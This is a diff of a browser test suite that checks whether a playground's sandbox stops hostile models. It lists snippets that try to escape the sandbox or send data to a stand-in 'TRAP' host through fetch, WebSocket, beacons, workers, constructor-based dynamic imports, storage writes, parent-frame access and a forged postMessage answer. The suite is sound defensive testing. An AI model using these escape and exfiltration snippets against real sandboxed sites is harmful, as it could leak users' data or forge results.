@@ -2,29 +2,33 @@ import { expect, test } from '../../support/test';
 import { goodModel, openLink, outcome, run, startTrap } from '../../support/playground';
 
 /**
- * Models that mean harm, as they would come with a link. Each must end in an error or a harmless result, reach nothing,
- * and leave a page in which the next model runs. `TRAP` stands for the address of a server that nothing may reach.
+ * What models that mean harm try, as they would come with a link: each reaches nothing, and leaves a page in which the
+ * next model runs. `TRAP` stands for the address of a server that nothing may reach, `wait()` for the time it would take.
  */
 const reachesOut: Readonly<Record<string, string>> = {
   fetch: 'await fetch("TRAP/fetch");',
   XMLHttpRequest: 'const x = new XMLHttpRequest(); x.open("GET", "TRAP/xhr", false); x.send();',
-  WebSocket: 'new WebSocket("TRAP".replace("http", "ws")); await wait();',
-  EventSource: 'new EventSource("TRAP/events"); await wait();',
+  WebSocket: 'new WebSocket("TRAP/socket".replace("http", "ws"));',
+  EventSource: 'new EventSource("TRAP/events");',
   importScripts: 'importScripts("TRAP/script.js");',
   'dynamic import': 'await new Function("return import(\\"TRAP/module.js\\")")();',
   'dynamic import behind a constructor':
     'await (async () => {}).constructor("return import(\\"TRAP/module.js\\")")();',
   beacon: 'navigator.sendBeacon("TRAP/beacon");',
   'nested worker':
-    'const blob = new Blob(["fetch(`TRAP/nested`)"]); new Worker(URL.createObjectURL(blob)); await wait();',
-  'shared worker': 'new SharedWorker("TRAP/shared.js"); await wait();',
+    'const blob = new Blob(["fetch(`TRAP/nested`)"]); new Worker(URL.createObjectURL(blob));',
+  'shared worker': 'new SharedWorker("TRAP/shared.js");',
   localStorage: 'localStorage.setItem("stolen", "1");',
   indexedDB: 'indexedDB.open("stolen");',
   caches: 'await caches.open("stolen");',
   'the document': 'document.title = "stolen";',
   'the parent': 'parent.document.title = "stolen"; top.location = "TRAP/top";',
-  'messages to the page': 'postMessage({ type: "result", id: 1, result: {} }, "*");',
   'messages to other tabs': 'new BroadcastChannel("site").postMessage("stolen");',
+};
+
+/** Those that may end the worker, or the run, of whatever else tries in it. */
+const endsItsRun: Readonly<Record<string, string>> = {
+  'messages to the page': 'postMessage({ type: "result", id: 1, result: {} }, "*");',
   'a forged answer': `const real = MessagePort.prototype.postMessage;
     Object.defineProperty(MessageEvent.prototype, "data", { configurable: true, get() {
       real.call(this.target, { type: "result", id: 1, result: { parts: "<b>stolen</b>" } });
@@ -54,22 +58,29 @@ export default async function main() {
 test.describe('a hostile model', () => {
   test.setTimeout(120_000);
 
-  test('reaches nothing, whichever way it tries', async ({ page }) => {
-    test.setTimeout(400_000);
+  test('reaches nothing, whichever global it tries', async ({ page }) => {
     const trap = await startTrap();
-    for (const [way, body] of Object.entries(reachesOut)) {
-      await test.step(way, async () => {
-        await openLink(page, withTrap(body, trap.url));
-        await run(page);
-        expect(trap.hits(), way).toBe(0);
-        expect(await page.title(), way).toContain('Playground');
-        expect(await page.evaluate(() => localStorage.getItem('stolen')), way).toBeNull();
-      });
-    }
-    await openLink(page, goodModel);
+    const tries = Object.values(reachesOut).map((body) => `try { ${body} } catch {}`);
+    await openLink(page, withTrap(`${tries.join('\n  ')}\n  await wait();`, trap.url));
     expect(await run(page)).toContain('The model was built');
+    expect(trap.hits()).toEqual([]);
+    expect(await page.title()).toContain('Playground');
+    expect(await page.evaluate(() => localStorage.getItem('stolen'))).toBeNull();
     trap.stop();
   });
+
+  for (const [what, body] of Object.entries(endsItsRun)) {
+    test(`reaches nothing by ${what}, and the next model runs`, async ({ page }) => {
+      const trap = await startTrap();
+      await openLink(page, withTrap(body, trap.url));
+      await run(page);
+      expect(trap.hits()).toEqual([]);
+      expect(await page.title()).toContain('Playground');
+      await openLink(page, goodModel);
+      expect(await run(page)).toContain('The model was built');
+      trap.stop();
+    });
+  }
 
   for (const [what, body] of Object.entries(misbehaves)) {
     test(`that returns ${what} ends in words, and the next model runs`, async ({ page }) => {
@@ -85,10 +96,23 @@ test.describe('a hostile model', () => {
   test('does not run before the reader presses Run', async ({ page }) => {
     const trap = await startTrap();
     await openLink(page, withTrap('await fetch("TRAP/early");', trap.url));
-    await page.waitForTimeout(1500);
-    await expect(page.getByText('From a link, not yet run')).toBeVisible();
-    await expect(page.locator('iframe')).toHaveCount(0);
-    expect(trap.hits()).toBe(0);
+    // The frame that it would run in comes with the press, and not before.
+    await page.evaluate(() => {
+      const times = { pressed: NaN, framed: document.querySelector('iframe') ? 0 : NaN };
+      Object.assign(window, { times });
+      window.addEventListener('click', () => (times.pressed = performance.now()), true);
+      new MutationObserver((_, observer) => {
+        if (!document.querySelector('iframe')) return;
+        times.framed = performance.now();
+        observer.disconnect();
+      }).observe(document, { childList: true, subtree: true });
+    });
+    await run(page);
+    const { pressed, framed } = await page.evaluate(
+      () => (window as unknown as { times: { pressed: number; framed: number } }).times,
+    );
+    expect(framed).toBeGreaterThanOrEqual(pressed);
+    expect(trap.hits()).toEqual([]);
     trap.stop();
   });
 
